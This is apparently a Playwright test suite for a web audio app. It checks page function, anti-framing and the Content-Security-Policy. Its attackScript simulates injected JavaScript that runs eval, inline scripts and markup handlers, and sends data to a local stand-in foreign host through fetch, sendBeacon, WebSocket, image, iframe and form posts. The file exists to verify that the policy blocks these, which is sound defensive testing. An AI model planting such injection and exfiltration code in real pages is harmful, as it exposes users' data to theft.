import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from '@playwright/test';
import { serveBuild } from '../../scripts/bench/server';
import { startForeignHost } from '../support/foreignHost';
import { ListenPage } from '../support/listenPage';
import type { Traffic } from '../support/traffic';
import { TrainPage } from '../support/trainPage';
import { expect, fixture, Output, RECORDER, test } from './app';

const DIST = join(import.meta.dirname, '../../dist');

/** On a page below the root of its host, as on GitHub Pages; with and without the headers of `_headers`. */
const HOSTS = [
  { name: 'a host that sends the headers', isSendingHeaders: true },
  { name: 'a host that sends none', isSendingHeaders: false },
] as const;

const SCREENS = [
  { hash: '#listen', says: 'Bass-heavy headphone mix' },
  { hash: '#train', says: 'Train' },
  { hash: '#devices', says: 'Devices' },
  { hash: '#devices/of/ath-m20x', says: 'ATH-M20x' },
  { hash: '#devices/accuracy', says: /./ },
  { hash: '#devices/opra', says: 'OPRA’s database' },
  { hash: '#progress', says: 'Progress' },
] as const;

/** Notes what the policy forbids, before anything of the page runs. */
async function noteViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(window, { violations });
    document.addEventListener('securitypolicyviolation', (event) => {
      violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
    });
  });
}

const violationsOf = (page: Page): Promise<string[]> =>
  page.evaluate(() => (window as unknown as { violations: string[] }).violations);

for (const { name, isSendingHeaders } of HOSTS) {
  test(`on ${name}, below its root: every screen works, and nothing breaks the policy`, async ({
    browser,
    traffic,
  }) => {
    const server = await serveBuild(DIST, { folder: '/some/where/', isSendingHeaders });
    traffic.addHost(server.url);
    const context = await browser.newContext({ serviceWorkers: 'allow' });
    const page = await context.newPage();
    await page.addInitScript({ path: RECORDER });
    await noteViolations(page);
    const errors: string[] = [];
    context.on('console', (message) => {
      if (message.type() === 'error' || /policy/i.test(message.text())) errors.push(message.text());
    });
    context.on('weberror', (error) => errors.push(String(error.error())));
    const app = new ListenPage(page);
    const output = new Output(page);

    await test.step('listen: play, switch, add a file, export', async () => {
      const response = await page.goto(`${server.url}/`);
      expect(response!.headers()['content-security-policy'] !== undefined).toBe(isSendingHeaders);
      await expect(app.exportAudio).toBeEnabled();
      await app.play.click();
      await output.expectSound();
      await app.target('Mid-size car').check();
      await expect(app.nowPlaying).toContainText('Mid-size car');
      await output.expectSound();
      await app.addFiles.setInputFiles(fixture('stereo-24.flac'));
      await expect(app.heading).toHaveText('stereo-24');
      await expect(app.exportAudio).toBeEnabled();
      const download = page.waitForEvent('download');
      await app.exportAudio.click();
      expect((await (await download).createReadStream()).readable).toBe(true);
      await app.track('Bass-heavy headphone mix').getByRole('button').first().click();
    });
    for (const { hash, says } of SCREENS) {
      await test.step(hash, async () => {
        await page.evaluate((to) => {
          window.location.hash = to;
        }, hash);
        await expect(app.heading).toHaveText(says);
      });
    }
    await test.step('a trial sounds and is judged', async () => {
      const train = new TrainPage(page);
      await train.follow(train.linkTo([{ kindId: 'bandBoost', seed: 5 }]).replace(/^[^#]*/, ''));
      await train.acceptInvitation();
      await train.expectQuestion(1, 1);
      await output.expectSound();
      await train.answer();
      await expect(train.summary).toBeVisible();
      await page.keyboard.press('Escape');
    });
    await test.step('the notices open, also without a network', async () => {
      await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
      await page.reload();
      await expect.poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
      for (const isOffline of [false, true]) {
        await context.setOffline(isOffline);
        await page.getByRole('button', { name: 'About Elsewhere' }).click();
        const opened = context.waitForEvent('page');
        await page.getByRole('link', { name: /licences/ }).click();
        const notices = await opened;
        await expect(notices.getByRole('heading', { name: /^mediabunny \d/ })).toBeAttached();
        await expect(notices.getByText('SIL OPEN FONT LICENSE Version 1.1').first()).toBeAttached();
        expect(notices.url()).toBe(`${server.url}/third-party-notices.html`);
        await notices.close();
        await page.keyboard.press('Escape');
      }
    });
    expect(await violationsOf(page)).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
    server.close();
  });
}

/** What somebody would try who got text into the page. Each leaves a mark where it works. */
const attackScript = (foreign: string): string => `
  const marks = (window.marks = []);
  const attempt = (name, act) => { try { act(() => marks.push(name)); } catch {} };
  attempt('eval', (mark) => { window.evalMark = mark; eval('evalMark()'); });
  attempt('new Function', (mark) => { window.functionMark = mark; new Function('functionMark()')(); });
  attempt('timer with text', (mark) => { window.timerMark = mark; setTimeout('timerMark()', 0); });
  attempt('inline script', (mark) => {
    window.inlineMark = mark;
    const script = document.createElement('script');
    script.textContent = 'inlineMark()';
    document.head.append(script);
  });
  attempt('handler in markup', (mark) => {
    window.handlerMark = mark;
    document.body.insertAdjacentHTML('beforeend', '<img src="./missing.png" onerror="handlerMark()">');
  });
  attempt('worker from a blob', (mark) => {
    new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = mark;
  });
  fetch('${foreign}/fetch').catch(() => {});
  attempt('beacon', () => navigator.sendBeacon('${foreign}/beacon', 'results'));
  attempt('socket', () => new WebSocket('${foreign.replace('http', 'ws')}/socket'));
  attempt('image', () => { new Image().src = '${foreign}/image'; });
  attempt('script', () => {
    const script = document.createElement('script');
    script.src = '${foreign}/script.js';
    document.head.append(script);
  });
  attempt('style', () => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = '${foreign}/style.css';
    document.head.append(link);
  });
  attempt('frame', () => {
    const frame = document.createElement('iframe');
    frame.src = '${foreign}/frame';
    document.body.append(frame);
  });
  attempt('form', () => {
    const form = document.createElement('form');
    const target = document.createElement('iframe');
    target.name = 'answer';
    form.action = '${foreign}/form';
    form.method = 'post';
    form.target = 'answer';
    document.body.append(target, form);
    form.submit();
  });
  setTimeout(() => { window.isAttacked = true; }, 1500);
`;
const INLINE =
  '<script>window.parsedScriptRan = true</script><style>html { --injected: yes }</style><p style="--injected: yes" id="styled"></p>';
const LEAVES = ['/beacon', '/fetch', '/form', '/frame', '/image', '/script.js', '/socket', '/style.css'];
const RUNS = ['eval', 'handler in markup', 'inline script', 'new Function', 'timer with text', 'worker from a blob'];

async function attack(browser: Browser, { hasMeta = true, hasHeaders = true }) {
  const foreign = await startForeignHost(() => ({ type: 'text/plain', text: '' }));
  // The built page, with what an attacker got into it; from a real server, since where a page came from counts as well.
  const attacked = mkdtempSync(join(tmpdir(), 'elsewhere-attacked-'));
  cpSync(DIST, attacked, { recursive: true });
  const built = readFileSync(join(DIST, 'index.html'), 'utf8');
  const html = built
    .replace(hasMeta ? /$^/ : /<meta http-equiv="Content-Security-Policy"[^>]*>/, '')
    .replace('<div id="root">', `${INLINE}<script src="./attack.js"></script><div id="root">`);
  writeFileSync(join(attacked, 'index.html'), html);
  writeFileSync(join(attacked, 'attack.js'), attackScript(foreign.url));
  const server = await serveBuild(attacked, { isSendingHeaders: hasHeaders });
  const context = await browser.newContext({ serviceWorkers: 'block' });
  const page = await context.newPage();
  await noteViolations(page);
  await page.goto(`${server.url}/`);
  await expect.poll(() => page.evaluate(() => 'isAttacked' in window)).toBe(true);
  const ran = await page.evaluate(() => {
    const injected = (element: Element): boolean => getComputedStyle(element).getPropertyValue('--injected') !== '';
    return {
      marks: (window as unknown as { marks: string[] }).marks.toSorted((a, b) => (a < b ? -1 : 1)),
      isParsedScript: 'parsedScriptRan' in window,
      isParsedStyle: injected(document.documentElement),
      isStyleAttribute: injected(document.querySelector('#styled')!),
    };
  });
  const violations = await violationsOf(page);
  // The app itself stands all the same.
  await expect(new ListenPage(page).play).toBeEnabled();
  await context.close();
  server.close();
  foreign.close();
  rmSync(attacked, { recursive: true });
  return { ...ran, violations, visited: [...new Set(foreign.visited)].toSorted((a, b) => (a < b ? -1 : 1)) };
}

/** The attack's own requests and reports are not the app's: they have been looked at already. */
function forgetAttack(traffic: Traffic, policyReports: string[]): void {
  traffic.forget();
  policyReports.length = 0;
}

test('without a policy every attack on the page works, so the ones below are attacks', async ({
  browser,
  traffic,
  policyReports,
}) => {
  expect(await attack(browser, { hasMeta: false, hasHeaders: false })).toEqual({
    marks: RUNS,
    isParsedScript: true,
    isParsedStyle: true,
    isStyleAttribute: true,
    violations: [],
    visited: LEAVES,
  });
  forgetAttack(traffic, policyReports);
});

for (const { name, where } of [
  { name: 'the policy in the page', where: { hasHeaders: false } },
  { name: 'the policy in the headers', where: { hasMeta: false } },
]) {
  test(`${name} alone lets nothing run and nothing leave [fault: foreign-script]`, async ({
    browser,
    traffic,
    policyReports,
  }) => {
    const { violations, ...rest } = await attack(browser, where);
    expect(rest).toEqual({
      marks: [],
      isParsedScript: false,
      isParsedStyle: false,
      isStyleAttribute: false,
      visited: [],
    });
    for (const directive of ['script-src-elem', 'style-src-elem', 'style-src-attr', 'connect-src', 'img-src']) {
      expect(violations, directive).toContainEqual(expect.stringContaining(directive));
    }
    forgetAttack(traffic, policyReports);
  });
}

for (const { name, isSendingHeaders } of HOSTS) {
  test(`on ${name} another site ${isSendingHeaders ? 'cannot' : 'can'} frame the page`, async ({
    page,
    traffic,
    policyReports,
  }) => {
    const server = await serveBuild(DIST, { isSendingHeaders });
    const other = await startForeignHost(() => ({
      type: 'text/html',
      text: `<!doctype html><iframe src="${server.url}/"></iframe>`,
    }));
    await page.goto(`${other.url}/`);
    const framed = page.frameLocator('iframe').getByRole('button', { name: 'Play', exact: true });
    if (isSendingHeaders) {
      await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
      await expect(framed).toHaveCount(0);
    } else {
      await expect(framed).toBeEnabled();
    }
    await page.goto('about:blank');
    forgetAttack(traffic, policyReports);
    other.close();
    server.close();
  });
}

for (const theme of ['light', 'dark'] as const) {
  test(`a page that was left ${theme} is ${theme} before its program runs`, async ({ page }) => {
    await page.addInitScript((left) => localStorage.setItem('elsewhere.theme', left), theme);
    const held: (() => void)[] = [];
    await page.route(/\/assets\/index-[^/]*\.js$/, async (route) => {
      await new Promise<void>((resolve) => held.push(resolve));
      await route.continue();
    });
    await page.goto('/', { waitUntil: 'commit' });
    await expect.poll(() => held.length).toBeGreaterThan(0);
    // A colour in whatever space, as the screen shows it: 0 to 255; transparent until the style sheet is there.
    const ground = (): Promise<number[]> =>
      page.evaluate(() => {
        const brush = new OffscreenCanvas(1, 1).getContext('2d')!;
        brush.fillStyle = getComputedStyle(document.documentElement).backgroundColor;
        brush.fillRect(0, 0, 1, 1);
        return [...brush.getImageData(0, 0, 1, 1).data];
      });
    await expect.poll(async () => (await ground())[3]).toBe(255);
    const [red, green, blue] = await ground();
    if (theme === 'light') expect(Math.min(red!, green!, blue!)).toBeGreaterThan(200);
    else expect(Math.max(red!, green!, blue!)).toBeLessThan(60);
    for (const release of held) release();
    await expect(new ListenPage(page).play).toBeEnabled();
  });
}
